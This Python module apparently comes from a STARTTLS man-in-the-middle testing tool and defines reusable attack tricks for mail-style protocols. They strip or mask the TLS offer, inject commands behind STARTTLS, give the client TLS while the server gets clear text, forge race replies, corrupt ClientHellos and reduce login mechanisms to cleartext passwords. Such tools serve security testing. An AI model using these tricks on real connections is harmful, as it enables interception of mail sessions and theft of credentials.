# SPDX-License-Identifier: GPL-2.0-or-later
"""How the attacker reads a dialect, and the tricks that all dialects share.

A dialect's tricks.py describes its Protocol in words (which verb asks for the listing, which for TLS, what
accepts) and gets the usual tricks from standard(); only what is its own is written there.
"""
import collections
import re
import ssl

from attacker import Trick

GREETING = b"(greeting)"

# What a man on the side races: a request that matches, the answer that is to come, and the one that he forges in its
# place. {tag} is what the request's group 1 matched, {fill} makes up for the length; nothing forged means RST.
Race = collections.namedtuple("Race", "request genuine forged")


class Protocol:
    """A line dialect in which each command has one reply; derive for what is different.

    request, accept   the verb that asks for TLS, and what the reply that grants it matches
    offer             what offers TLS inside a reply; its group 1 is the token, the whole match is deleted
    login             what a reply matches that ends our interest: the client is in
    quietly           how to start TLS with the server unseen: one command after the other
    again             what the server has forgotten then, and must be told a second time
    """

    begins = (GREETING,)
    regreets = False            # the server greets again inside TLS
    at_once = 65536             # how much to read at a time: no more than a request that has no reply

    def __init__(self, request, accept, offer=None, login=None, quietly=(), again=()):
        self.request = request
        self.accept = re.compile(accept)
        self.offer = re.compile(offer, re.I | re.M) if offer else None
        self.login = re.compile(login, re.M) if login else None
        self.quietly, self.again = quietly, again

    def unit(self, talk, from_client, data):
        """The size of the first unit, 0 when it has not come as a whole."""
        return data.find(b"\n") + 1

    def is_command(self, talk, unit):
        """Will the unit have a reply of its own?"""
        return True

    def is_last(self, talk, asked, unit):
        """Does the unit end the reply to `asked`?"""
        return True

    def ends_body(self, talk, unit):
        return unit in (b".\r\n", b".\n")

    def verb(self, unit):
        return unit.split(b" ")[0].strip().upper()

    def asks(self, unit):
        return self.verb(unit) == self.request

    def note(self, talk, asked, reply):
        """Follow the session far enough to know what is protocol and what is not."""
        talk.greeting = reply if asked == GREETING else talk.greeting
        if self.asks(asked) and self.accept.match(reply):
            talk.go_opaque()
        elif self.login and self.login.search(reply):
            talk.go_opaque(tls=False)
        elif self.offer and self.offer.search(reply):
            talk.listings += 1

    def tidy(self, reply):
        return reply

    def answer(self, unit, text):
        """A reply of ours to the client's unit."""
        return text + b"\r\n"

    def ask(self, talk, command):
        """Our own exchange with the server, before the client's begins."""
        if command:
            talk.tell_server(command)
        talk.reply, rest = b"", b""
        while True:
            data = talk.server.recv(4096)
            if not data:
                raise ConnectionError("the server closed the connection")
            rest += data
            while rest and (size := self.unit(talk, False, rest)) and size <= len(rest):
                unit, rest = rest[:size], rest[size:]
                talk.reply += unit
                if self.is_last(talk, command or GREETING, unit):
                    reply, talk.reply = talk.reply, b""
                    return reply

    def unseen(self, talk):
        """What starts TLS from where the session is."""
        return self.quietly

    def start_in_secret(self, talk):
        """Start TLS with the server on our own account; what it says unasked then, nothing in most dialects."""
        for command in self.unseen(talk):
            self.ask(talk, command)
        talk.start_server_tls()
        return self.ask(talk, None) if self.regreets else b""

    def upgrade(self, talk):
        """The same before the client's session begins; the client gets the greeting only."""
        greeting = self.ask(talk, None) if self.begins else b""
        greeting = self.start_in_secret(talk) or greeting
        talk.asked.clear()
        if greeting:
            talk.tell_client(self.offer.sub(b"", greeting))


# Building blocks: what a trick does before the client has spoken, with a listing, and with the request.

def upgrade(talk):
    talk.protocol.upgrade(talk)


def join(talk):
    """Ask the server for TLS in clear; whose TLS that will be is left to the client."""
    protocol = talk.protocol
    for command in ((None,) if protocol.begins else ()) + tuple(protocol.unseen(talk)):
        protocol.ask(talk, command)
    talk.asked.clear()
    talk.go_opaque()



def listing(change, first=1):
    """Change what offers TLS, from the `first` time on; change(match) gives the new bytes."""
    def reply(talk, asked, data):
        offer = talk.protocol.offer
        return offer.sub(change, data) if talk.listings >= first else data
    return reply


def inside_tls(change):
    """Only for a client that believes it has TLS with the server."""
    return lambda talk, asked, data: change(talk, asked, data) if isinstance(talk.client, ssl.SSLSocket) else data


def nothing(match):
    return b""


def token(text):
    """The offer with another token in its place."""
    def change(match):
        whole, at = match.group(0), match.start(1) - match.start(0)
        return whole[:at] + text + whole[at + len(match.group(1)):]
    return change


def stars(match):
    """The offer as a firewall's mask leaves it."""
    return token(b"X" * len(match.group(1)))(match)


def on(word, action):
    """Do something with one verb of the client's, forward all others."""
    return lambda talk, unit: action(talk, unit) if talk.protocol.verb(unit) == word else unit


def at_request(action):
    return lambda talk, unit: action(talk, unit) if talk.protocol.asks(unit) else unit


def answer(text):
    def act(talk, unit):
        talk.tell_client(talk.protocol.answer(unit, text))
    return act


def swallow(talk, unit):
    return None


def reset(talk, _):
    talk.reset()


def then_tls(text):
    def act(talk, unit):
        answer(text)(talk, unit)
        talk.terminate_client_tls()
        if talk.protocol.regreets:
            talk.tell_client(talk.protocol.offer.sub(b"", talk.greeting))
    return act


def tls_twice(text):
    """TLS with the server, too: both believe themselves safe."""
    def act(talk, unit):
        talk.protocol.ask(talk, unit)
        talk.start_server_tls()
        then_tls(text)(talk, unit)
    return act


def refuse_hello(talk, _):
    """A fatal alert, handshake_failure (40), in place of the ServerHello."""
    talk.tell_client(bytes.fromhex("15030300020228"))
    talk.stop()


def flipped(at):
    """One bit of the ClientHello, by its place behind the start of the record."""
    return lambda talk, data: data[:at] + bytes([data[at] ^ 0x40]) + data[at + 1:]


def behind_acceptance(extra):
    def reply(talk, asked, data):
        if talk.protocol.asks(asked) and talk.protocol.accept.match(data):
            return data + extra
        return data
    return reply


def without(pattern, instead=b""):
    """Take something out of all that the server says before the login."""
    return lambda talk, asked, data: re.sub(pattern, instead, data)


def once_demanded(pattern):
    """When the server demands TLS it gets TLS, of which the client does not know."""
    def reply(talk, asked, data):
        if re.search(pattern, data) and not isinstance(talk.server, ssl.SSLSocket):
            talk.protocol.start_in_secret(talk)
            for command in talk.protocol.again:
                talk.protocol.ask(talk, command)
        return data
    return reply


def policy_tricks(insists=None, weak=None, demand=None):
    """What can be done to the words around the offer; each is a pattern.

    insists     how the server refuses what it wants TLS for
    weak        what is better than a password in clear, among the mechanisms; with what to put in its place
    demand      what demands TLS in the listing
    """
    tricks = {}
    if insists:
        tricks["late-tls"] = Trick("let the server demand TLS, start it in secret and let the client go on in clear",
                                   reply=once_demanded(insists))
    if weak:
        tricks["weaken"] = Trick("leave nothing but passwords in clear among the mechanisms", reply=without(*weak))
    if demand:
        tricks["drop-demand"] = Trick("delete the demand for TLS from the listing", reply=without(demand))
    return tricks


def handshake_tricks():
    return {
        "reset-hello": Trick("answer the ClientHello with RST", hello=reset),
        "alert-hello": Trick("answer the ClientHello with a fatal alert", hello=refuse_hello),
        "garble-hello": Trick("flip a bit of a length inside the ClientHello", hello=flipped(43)),
        "flip-hello": Trick("flip a bit that only the keys will miss", hello=flipped(9)),
        "join": Trick("carry TLS of another port into an upgrade", first=join),
    }


def request_tricks(name, accept, replies):
    """What can be done to the request; replies: trick -> the answer that is given in the server's name."""
    tricks = {trick: Trick("answer %s with %s" % (name, shown(text)), command=at_request(answer(text)))
              for trick, text in replies.items()}
    tricks.update({
        "swallow": Trick("drop %s" % name, command=at_request(swallow)),
        "accept-clear": Trick("grant %s and let the session go on in clear" % name,
                              command=at_request(answer(accept))),
        "reset-request": Trick("answer %s with RST" % name, command=at_request(reset)),
    })
    return tricks


def races(request, genuine, refusal):
    """The answer to a request for TLS, forged by somebody on the side."""
    return {"race-refusal": Race(request, genuine, refusal), "race-reset": Race(request, genuine, None)}


def shown(text):
    return text.decode("latin-1").replace("{tag} ", "").replace("{tag}", "tag").split(" ")[0] if text.isascii() else "an error"


def listing_tricks(name, change=listing):
    return {
        "strip-offer": Trick("delete %s from the listing" % name, reply=change(nothing)),
        "withdraw": Trick("delete %s from the second listing" % name, reply=change(nothing, first=2)),
        "mask": Trick("write X over the %s of the listing" % name, reply=change(stars)),
        "corrupt": Trick("misspell the %s of the listing" % name,
                         reply=change(lambda m: token(m.group(1)[:-1] + b"5")(m))),
    }


def standard(name, accept, replies, asks=None, no_listing=None, injected=b"NOOP injected\r\n", forged=None):
    """The tricks for a line dialect.

    name        the verb that asks for TLS
    accept      the reply that grants it
    replies     trick -> reply
    asks        the verb that asks for the listing; no_listing: the reply that refuses it
    injected    the command put behind the request; forged: the reply put behind the acceptance
    """
    tricks = {"pass": Trick("forward everything")}
    tricks.update(listing_tricks(name))
    tricks.update(request_tricks(name, accept, replies))
    tricks.update(handshake_tricks())
    tricks["overwrite"] = Trick(
        "overwrite %s on its way to the server" % name,
        command=at_request(lambda talk, unit: unit.replace(name.encode(), b"X" * len(name))))
    tricks["inject-command"] = Trick("put a command behind %s" % name,
                                     command=at_request(lambda talk, unit: unit + injected))
    tricks["tls-to-client"] = Trick("TLS with the client, clear text to the server",
                                    reply=inside_tls(listing(nothing)), command=at_request(then_tls(accept)))
    tricks["tls-to-both"] = Trick("TLS with both, and a certificate of his own", command=at_request(tls_twice(accept)))
    tricks["tls-to-server"] = Trick("clear text with the client, TLS to the server", first=upgrade,
                                    reply=listing(nothing, first=0))
    if asks:
        tricks["refuse-listing"] = Trick("answer %s with %s" % (asks.decode(), shown(no_listing)),
                                         command=on(asks, answer(no_listing)))
        tricks["mask-listing"] = Trick(
            "overwrite %s on its way to the server" % asks.decode(),
            command=on(asks, lambda talk, unit: unit.replace(asks, b"X" * len(asks))))
    if forged:
        tricks["inject-response"] = Trick("put a reply behind the acceptance", reply=behind_acceptance(forged))
    return tricks
